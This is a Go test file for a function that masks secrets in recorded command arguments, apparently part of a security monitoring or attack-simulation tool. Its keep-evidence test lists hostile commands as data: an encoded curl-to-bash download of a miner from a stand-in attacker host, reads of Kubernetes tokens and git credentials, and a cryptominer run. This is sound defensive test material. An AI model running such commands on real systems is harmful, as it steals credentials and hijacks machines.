package record

import (
	"slices"
	"strings"
	"testing"
)

func TestArgumentsMaskSecrets(t *testing.T) {
	jwt := "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW0ifQ.c2lnbmF0dXJl"
	for _, c := range []struct{ given, want []string }{
		{[]string{"curl", "-H", "Authorization: Bearer " + jwt}, []string{"curl", "-H", "Authorization: Bearer ***"}},
		{[]string{"sh", "-c", "echo " + jwt + " | base64"}, []string{"sh", "-c", "echo *** | base64"}},
		{[]string{"mysql", "--password=hunter22", "-u", "root"}, []string{"mysql", "--password=***", "-u", "root"}},
		{[]string{"kubectl", "--token", "abcdef", "get", "pods"}, []string{"kubectl", "--token", "***", "get", "pods"}},
		{[]string{"git", "clone", "https://me:geheim@git.example/x"}, []string{"git", "clone", "https://me:***@git.example/x"}},
		{[]string{"env", "AWS_SECRET_ACCESS_KEY=abcd/efgh"}, []string{"env", "AWS_SECRET_ACCESS_KEY=***"}},
		{[]string{"aws", "AKIAABCDEFGHIJKLMNOP"}, []string{"aws", "***"}},
		{[]string{"curl", "-H", "X-Sim-Token: 0123456789abcdef0123456789abcdef"}, []string{"curl", "-H", "X-Sim-Token: ***"}},
		{[]string{"curl", "https://x.blob.example/c?sv=1&sig=abcdefgh%3D"}, []string{"curl", "https://x.blob.example/c?sv=1&sig=***"}},
		{[]string{"echo", "-----BEGIN PRIVATE KEY-----\nabc\n-----END PRIVATE KEY-----"}, []string{"echo", "***"}},
	} {
		if got := Arguments(c.given); !slices.Equal(got, c.want) {
			t.Errorf("%q: %q", c.given, got)
		}
	}
}

// What rules and reports need stays: run ids, encoded scripts, paths, what was typed.
func TestArgumentsKeepEvidence(t *testing.T) {
	for _, kept := range [][]string{
		{"sh", "-c", "echo Y3VybCAtc08gaHR0cDovL2F0dGFja2VyL3htcmln | base64 -d | bash -s sim-k3j2h1g0"},
		{"bash", "-s", "sim-k3j2h1g0"},
		{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"},
		{"find", "/", "-name", ".git-credentials"},
		{"sh", "-c", `TOKEN=$(cat /run/secrets/token); curl -H "Authorization: Bearer $TOKEN" https://kubernetes.default/api`},
		{"xmrig", "-o", "stratum+tcp://pool.example:3333"},
		{"run", "--token", "sim-k3j2h1g0"},
		{"kubectl", "--token", "--help"},
		{"grep", "-r", "password", "/etc"},
	} {
		if got := Arguments(kept); !slices.Equal(got, kept) {
			t.Errorf("%q: %q", kept, got)
		}
	}
}

func BenchmarkArguments(b *testing.B) {
	arguments := []string{"sh", "-c", "echo " + strings.Repeat("Y3VybCAtc08g", 20) + " | base64 -d | bash -s sim-k3j2h1g0"}
	for b.Loop() {
		Arguments(arguments)
	}
}
